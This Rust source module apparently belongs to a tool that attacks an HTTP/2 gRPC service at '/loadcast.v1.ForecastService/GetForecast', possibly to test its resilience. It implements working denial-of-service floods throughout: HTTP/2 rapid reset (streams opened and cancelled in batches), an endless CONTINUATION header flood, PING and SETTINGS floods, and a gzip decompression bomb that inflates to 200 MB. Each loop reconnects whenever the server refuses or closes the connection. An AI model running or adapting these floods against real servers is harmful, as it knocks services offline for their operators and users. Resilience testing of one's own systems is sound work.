//! Peers that say more than anybody needs, as fast as they can, again and again. Nobody reads what they are told.

use std::{
    io::{self, Write as _},
    sync::atomic::Ordering,
};

use flate2::{Compression, write::GzEncoder};
use tokio::io::AsyncWriteExt as _;

use crate::{
    attack::{Tally, Target},
    frames::{self, END_HEADERS, END_STREAM, frame, headers, hello},
};

const PATH: &str = "/loadcast.v1.ForecastService/GetForecast";

/// What the bomb becomes when it is inflated.
const BOMB_BYTES: usize = 200 * 1024 * 1024;

/// Frames that are written at once.
const BATCH: usize = 64;

/// Connects, greets, says `first` and then what `batch` makes until the server closes the connection; and again.
async fn flood(
    target: &Target,
    first: &[u8],
    mut batch: impl FnMut(u32) -> Vec<u8>,
) -> io::Result<()> {
    loop {
        let Ok(mut stream) = target.connect().await else {
            tokio::task::yield_now().await;
            continue;
        };
        let greeting = [&hello(65_535), first].concat();
        // Whoever is refused comes again.
        let mut taken = stream.write_all(&greeting).await;
        let mut next = 3;
        while taken.is_ok() && next <= 1 << 30 {
            taken = stream.write_all(&batch(next)).await;
            next += 2 * BATCH as u32;
            target.tally.sent.fetch_add(BATCH as u64, Ordering::Relaxed);
        }
        Tally::count(&target.tally.closed);
    }
}

/// Calls, each taken back at once.
pub(crate) async fn resets(target: &Target) -> io::Result<()> {
    let (headers, cancel) = (headers(PATH, &[]), 8_u32.to_be_bytes());
    let batch = |next| {
        let mut bytes = Vec::new();
        for i in 0..BATCH as u32 {
            let id = next + 2 * i;
            bytes.extend(frame(frames::HEADERS, END_HEADERS, id, &headers));
            bytes.extend(frame(frames::RST_STREAM, 0, id, &cancel));
        }
        bytes
    };
    flood(target, b"", batch).await
}

/// Headers without an end.
pub(crate) async fn continuations(target: &Target) -> io::Result<()> {
    let first = frame(frames::HEADERS, 0, 1, &headers(PATH, &[]));
    let value = "x".repeat(100);
    let more = frame(frames::CONTINUATION, 0, 1, &headers(PATH, &[("a", &value)]));
    flood(target, &first, |_| more.repeat(BATCH)).await
}

pub(crate) async fn pings(target: &Target) -> io::Result<()> {
    let ping = frame(frames::PING, 0, 0, &[7; 8]).repeat(BATCH);
    flood(target, b"", |_| ping.clone()).await
}

pub(crate) async fn settings(target: &Target) -> io::Result<()> {
    let settings = frame(frames::SETTINGS, 0, 0, b"").repeat(BATCH);
    flood(target, b"", |_| settings.clone()).await
}

/// A small message that says it is compressed, and is 200 MB when it is not.
pub(crate) async fn bombs(target: &Target) -> io::Result<()> {
    let bomb = tokio::task::spawn_blocking(|| {
        let mut gzip = GzEncoder::new(Vec::new(), Compression::best());
        gzip.write_all(&vec![0; BOMB_BYTES])?;
        gzip.finish()
    });
    let mut message = frames::envelope(&bomb.await.unwrap()?);
    message[0] = 1;
    let headers = headers(PATH, &[("grpc-encoding", "gzip")]);
    loop {
        let Ok(mut stream) = target.connect().await else {
            tokio::task::yield_now().await;
            continue;
        };
        let mut words = hello(65_535);
        words.extend(frame(frames::HEADERS, END_HEADERS, 1, &headers));
        for piece in message.chunks(16_384) {
            words.extend(frame(frames::DATA, 0, 1, piece));
        }
        words.extend(frame(frames::DATA, END_STREAM, 1, b""));
        Tally::count(&target.tally.sent);
        let (mut reads, mut writes) = stream.split();
        // It need not take all of it.
        let writing = async { drop(writes.write_all(&words).await) };
        let answer = async {
            while let Ok(Some(came)) = frames::next(&mut reads).await {
                // A status, or a reset while the rest was still on its way.
                if came.kind == frames::HEADERS || came.kind == frames::RST_STREAM {
                    Tally::count(&target.tally.answered);
                    return;
                }
            }
            Tally::count(&target.tally.closed);
        };
        tokio::join!(writing, answer);
    }
}
